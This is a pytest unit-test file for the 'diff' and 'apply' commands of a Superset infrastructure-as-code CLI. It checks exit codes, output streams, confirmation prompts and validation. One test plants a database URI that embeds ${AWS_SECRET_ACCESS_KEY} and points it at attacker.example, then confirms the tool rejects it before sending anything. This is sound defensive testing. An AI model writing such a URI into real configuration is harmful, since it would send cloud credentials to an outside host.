"""``diff`` and ``apply`` through click's runner, with the server side faked.

What is checked here is the command's own logic: exit codes, where each
line goes (result on stdout, progress and errors on stderr), the prompt
only on a terminal, targets checked before anything is sent. The same
commands against a real Superset are in tests/integration/test_cli_e2e.py.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import responses
from click.testing import CliRunner

from superset_iac.cli import apply_cmd, diff_cmd, main
from superset_iac.kinds.base import Context
from superset_iac.model import Chart, Dataset
from superset_iac.plan.diff import plan as make_plan
from tests.unit.apply.recorder import Recorder, dataset

ROOT = Path(__file__).resolve().parents[2]
VARS = {"SUPERSET_URL": "http://superset.invalid", "SUPERSET_PASSWORD": "pw",
        "LAKEHOUSE_PATH": "/nowhere/lake.duckdb", "SUPERSET_IAC_AUDIT_LOG": ""}


DESIRED = {"dataset": {"ticks": dataset("ticks"), "logs": dataset("logs")},
           "chart": {"Price": Chart(name="Price", dataset="ticks", viz_type="table"),
                     "Errors": Chart(name="Errors", dataset="logs", viz_type="table")}}


class Fake:
    """The server side of a command: a plan of four creates and recording handlers."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.datasets, self.charts = Recorder(Dataset), Recorder(Chart)
        self.terminal = False
        self.desired = DESIRED

        class Loaded:
            env = None
            desired = DESIRED

        for module in (apply_cmd, diff_cmd):
            monkeypatch.setattr(module, "load_valid", lambda assets, env: Loaded())
            monkeypatch.setattr(module, "context", lambda *a: Context(client=None))
            monkeypatch.setattr(module.workflow, "diff", self.plan)
        monkeypatch.setattr(apply_cmd, "stdin_is_terminal", lambda: self.terminal)
        monkeypatch.setattr(apply_cmd, "HANDLERS", {"dataset": self.datasets,
                                                    "chart": self.charts})

    def plan(self, loaded: Any, ctx: Context, *, prune: bool = False, targets: tuple = (),
             rotate: bool = False):
        return make_plan(self.desired, {}, prune=prune, targets=targets)

    @property
    def calls(self) -> list[str]:
        return self.datasets.calls + self.charts.calls


@pytest.fixture
def fake(monkeypatch: pytest.MonkeyPatch) -> Fake:
    return Fake(monkeypatch)


def run(*args: str, input: str | None = None):
    return CliRunner().invoke(main, [*args, "--env", "local"], input=input, env=VARS)


def test_without_a_terminal_apply_does_not_ask_and_reports_progress_on_stderr(fake: Fake) -> None:
    result = run("apply")
    assert result.exit_code == 0, result.output
    assert fake.calls == ["create ticks", "create logs", "create Price", "create Errors"]
    assert "Apply these changes?" not in result.output
    progress = result.stderr.splitlines()
    assert progress[0] == "Applying 4 changes."
    assert progress[1].startswith("[1/4] + dataset/ticks: created (")
    assert progress[4].startswith("[4/4] + chart/Errors: created (")
    out = result.stdout.splitlines()
    assert out[0] == "+ dataset/ticks" and "Plan: 4 to create" in result.stdout
    assert out[-1].startswith("Apply: 4 created (") and "[" not in result.stdout


def test_on_a_terminal_apply_asks_and_no_changes_nothing(fake: Fake) -> None:
    fake.terminal = True
    result = run("apply", input="n\n")
    assert result.exit_code == 1
    assert fake.calls == []
    assert "Apply these changes? [y/N]" in result.stderr
    assert "error: apply cancelled: nothing was changed" in result.stderr
    assert "Plan: 4 to create" in result.stdout  # what was declined was shown


def test_on_a_terminal_end_of_input_cancels(fake: Fake) -> None:
    fake.terminal = True
    result = run("apply", input="")
    assert result.exit_code == 1 and fake.calls == []
    assert "Traceback" not in result.output


def test_on_a_terminal_yes_applies(fake: Fake) -> None:
    fake.terminal = True
    result = run("apply", input="y\n")
    assert result.exit_code == 0 and len(fake.calls) == 4


def test_on_a_terminal_the_yes_flag_does_not_ask(fake: Fake) -> None:
    fake.terminal = True
    result = run("apply", "--yes")
    assert result.exit_code == 0 and len(fake.calls) == 4
    assert "Apply these changes?" not in result.output


def test_json_on_a_terminal_asks_on_stderr_and_keeps_stdout_json(fake: Fake) -> None:
    fake.terminal = True
    declined = run("apply", "--format", "json", input="n\n")
    assert declined.exit_code == 1 and fake.calls == []
    assert "+ dataset/ticks" in declined.stderr  # the plan being confirmed, as text
    assert declined.stdout.strip() == ""
    accepted = run("apply", "--format", "json", input="y\n")
    data = json.loads(accepted.stdout)
    assert data["summary"]["created"] == 4 and len(data["events"]) == 4
    assert data["plan"]["summary"]["create"] == 4


def test_a_failure_skips_its_dependants_reports_all_and_exits_1(fake: Fake) -> None:
    fake.datasets.fail = {"ticks", "logs"}
    result = run("apply")
    assert result.exit_code == 1
    assert fake.charts.calls == []
    err = result.stderr
    assert "[1/4] ! dataset/ticks: failed: POST /api/v1/dataset/ → 422: bad ticks" in err
    assert "[3/4] ? chart/Price: skipped: depends on dataset/ticks, which failed" in err
    recap = err[err.index("error: 2 change(s) failed, 2 skipped"):].splitlines()
    assert recap[1:] == ["  ! dataset/ticks: POST /api/v1/dataset/ → 422: bad ticks",
                         "  ! dataset/logs: POST /api/v1/dataset/ → 422: bad logs",
                         "  ? chart/Price: depends on dataset/ticks, which failed",
                         "  ? chart/Errors: depends on dataset/logs, which failed"]
    assert "Apply: 2 failed, 2 skipped" in result.stdout


def test_json_failure_report_is_data(fake: Fake) -> None:
    fake.datasets.fail = {"logs"}
    result = run("apply", "--format", "json")
    assert result.exit_code == 1
    data = json.loads(result.stdout)
    assert data["summary"] == {"created": 2, "updated": 0, "deleted": 0, "failed": 1,
                               "skipped": 1, "not_attempted": 0, "unchanged": 0}
    assert [e["outcome"] for e in data["events"]] == ["created", "failed", "created", "skipped"]


def test_an_interrupt_mid_apply_is_one_line_saying_how_far_it_got(fake: Fake) -> None:
    fake.charts.interrupt = {"Price"}
    result = run("apply")
    assert result.exit_code == 1
    assert fake.calls == ["create ticks", "create logs"]
    assert "error: interrupted after 2 of 4 changes; run apply again" in result.stderr
    assert "Traceback" not in result.output


def test_targets_limit_the_plan_and_the_writes(fake: Fake) -> None:
    result = run("apply", "--target", "dataset/logs", "--target", "chart/Errors")
    assert result.exit_code == 0
    assert fake.calls == ["create logs", "create Errors"]


@pytest.mark.parametrize("command", ["diff", "apply"])
def test_a_target_naming_nothing_is_a_usage_error(fake: Fake, command: str) -> None:
    unknown_kind = run(command, "--target", "charts/Price")
    assert unknown_kind.exit_code == 2
    assert "'charts/Price' is not KIND or KIND/NAME" in unknown_kind.stderr
    typo = run(command, "--target", "chart/Prices")
    assert typo.exit_code == 2
    assert typo.stderr.strip() == ("error: --target chart/Prices: there is no chart 'Prices' "
                                   "in the tree (did you mean chart/Price?)")
    assert fake.calls == []


def test_diff_exit_codes_and_json(fake: Fake) -> None:
    changes = run("diff")
    assert changes.exit_code == 3 and "Plan: 4 to create" in changes.stdout
    data = json.loads(run("diff", "--format", "json").stdout)
    assert [c["key"] for c in data["changes"]] == ["ticks", "logs", "Price", "Errors"]
    fake.desired = {}
    none = run("diff")
    assert none.exit_code == 0 and none.stdout.strip() == "No changes. 0 objects up to date."


@responses.activate
def test_invalid_assets_exit_1_with_positions_and_nothing_is_sent(tmp_path: Path) -> None:
    import shutil

    shutil.copytree(ROOT / "assets", tmp_path / "assets")
    chart = tmp_path / "assets" / "charts" / "volume_by_symbol.yaml"
    chart.write_text(chart.read_text().replace("dataset: volume_stats", "dataset: volume_stat"))
    for command in (["diff"], ["apply", "--yes"]):
        result = run(*command, "--assets", str(tmp_path / "assets"))
        assert result.exit_code == 1
        assert f"{tmp_path}/assets/charts/volume_by_symbol.yaml:2:1: R001" in result.stderr
        assert "error: 1 problem(s) in the assets; nothing was changed" in result.stderr
    assert len(responses.calls) == 0


@responses.activate
def test_an_older_superset_is_refused_before_anything_is_read(tmp_path: Path) -> None:
    """5.x has neither /version nor the 6.0 theme API: exit 2, one line, no reads."""
    url = "http://old-superset.invalid"
    responses.post(f"{url}/api/v1/security/login", json={"access_token": "t", "refresh_token": "r"})
    responses.get(f"{url}/version", status=404, json={"message": "Not found"})
    responses.get(f"{url}/api/v1/theme/_info", status=404, json={"message": "Not found"})
    env = {**VARS, "SUPERSET_URL": url}
    result = CliRunner().invoke(main, ["diff", "--env", "local", "--assets", str(ROOT / "assets")],
                                env=env)
    assert result.exit_code == 2, result.output
    assert "FAB_ADD_SECURITY_API" in result.stderr
    assert "Traceback" not in result.output + result.stderr
    assert not [c for c in responses.calls if "/api/v1/database" in c.request.url]


@responses.activate
def test_a_uri_aiming_a_secret_elsewhere_is_refused_before_any_request(tmp_path: Path) -> None:
    import shutil

    shutil.copytree(ROOT / "assets", tmp_path / "assets")
    db = tmp_path / "assets" / "databases" / "lakehouse.yaml"
    db.write_text(db.read_text().replace(
        "uri: trino://superset@trino:8080/hive_prod",
        "uri: trino://superset:${AWS_SECRET_ACCESS_KEY}@attacker.example:443/hive_prod"))
    env = {**VARS, "AWS_SECRET_ACCESS_KEY": "aws-secret-9f8e7d6c5b4a"}
    for command in (["diff"], ["apply", "--yes"], ["diff", "--format", "json"]):
        result = CliRunner().invoke(main, [*command, "--env", "prod", "--assets",
                                           str(tmp_path / "assets")], env=env)
        assert result.exit_code == 1, result.output
        assert f"{db}:3:" in result.stderr and "S031" in result.stderr  # not declared
        assert "S033" in result.stderr  # and not an allowed host
        assert "aws-secret" not in result.output
    assert len(responses.calls) == 0


@responses.activate
@pytest.mark.parametrize("command", [["diff"], ["apply", "--yes"], ["export", "--all"]])
def test_a_missing_password_is_one_line_before_any_request(command: list[str]) -> None:
    env = {k: v for k, v in VARS.items() if k != "SUPERSET_PASSWORD"}
    result = CliRunner().invoke(main, [*command, "--env", "local", "--assets", str(ROOT / "assets")],
                                env={**env, "SUPERSET_PASSWORD": None, "SUPERSET_USERNAME": None})
    assert result.exit_code == 2, result.output
    # The tree's warnings (and export's variable warning) may come first; the
    # error is the one line after them.
    lines = [line for line in result.stderr.splitlines() if "warning" not in line]
    assert lines == [
        f"error: SUPERSET_PASSWORD is not set: no password to log in to {VARS['SUPERSET_URL']} as "
        "'admin'; set it, or SUPERSET_ACCESS_TOKEN"]  # the environment file's default user
    assert len(responses.calls) == 0
